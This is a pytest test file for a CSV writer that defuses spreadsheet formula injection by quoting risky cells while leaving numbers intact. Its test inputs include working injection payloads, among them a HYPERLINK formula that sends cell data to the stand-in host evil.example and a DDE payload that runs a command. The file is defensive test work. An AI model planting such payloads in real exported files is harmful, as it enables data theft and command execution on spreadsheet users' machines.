"""The one CSV writer: cells a spreadsheet would run are made inert, numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from core.safe_csv import CsvWriter, DictCsvWriter, is_active, neutralise

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?d="&A1,"open")',
        "=cmd|' /C calc'!A0",
        "+cmd",
        "-1+1",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "=",
        "-",
        "+1-2",
        "-12.5e",
    ],
)
def test_a_cell_that_could_start_a_formula_gets_a_leading_quote(value: str) -> None:
    assert neutralise(value) == "'" + value
    assert is_active(value) and not is_active(neutralise(value))


@pytest.mark.parametrize(
    "value", ["-12.5", "+8613800138000", "-3", "+.5", "-1e5", "1.5E-3", "0", "K1004", "", "'=x"]
)
def test_a_plain_number_or_ordinary_text_is_left_alone(value: str) -> None:
    assert neutralise(value) == value


@pytest.mark.parametrize("value", [None, -5, -2.5, True])
def test_values_that_are_not_text_are_left_alone(value: object) -> None:
    assert neutralise(value) is value


def test_the_writers_neutralise_every_cell_and_the_header_unless_raw() -> None:
    out = io.StringIO()
    writer = DictCsvWriter(out, ["=name", "n"])
    writer.writeheader()
    writer.writerow({"=name": "@SUM(A1)", "n": "-12.5"})
    plain = CsvWriter(out)
    plain.writerow(["+cmd", -1, None])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=name", "n"],
        ["'@SUM(A1)", "-12.5"],
        ["'+cmd", "-1", ""],
    ]
    raw = io.StringIO()
    DictCsvWriter(raw, ["a"], raw=True).writerow({"a": "=1+1"})
    CsvWriter(raw, raw=True).writerow(["\t=1+1"])
    assert list(csv.reader(io.StringIO(raw.getvalue()))) == [["=1+1"], ["\t=1+1"]]


def test_no_module_writes_csv_around_the_safe_writer() -> None:
    """A new CSV output must go through core.safe_csv, or it can carry formulas again."""
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\.to_csv\(|\.write_csv\(")
    offenders = [
        str(path.relative_to(ROOT))
        for package in ("core", "connectors", "mappings", "quality", "mdm", "pipeline", "crmhub")
        for path in (ROOT / package).rglob("*.py")
        if path != ROOT / "core" / "safe_csv.py" and writers.search(path.read_text("utf-8"))
    ]
    assert offenders == []
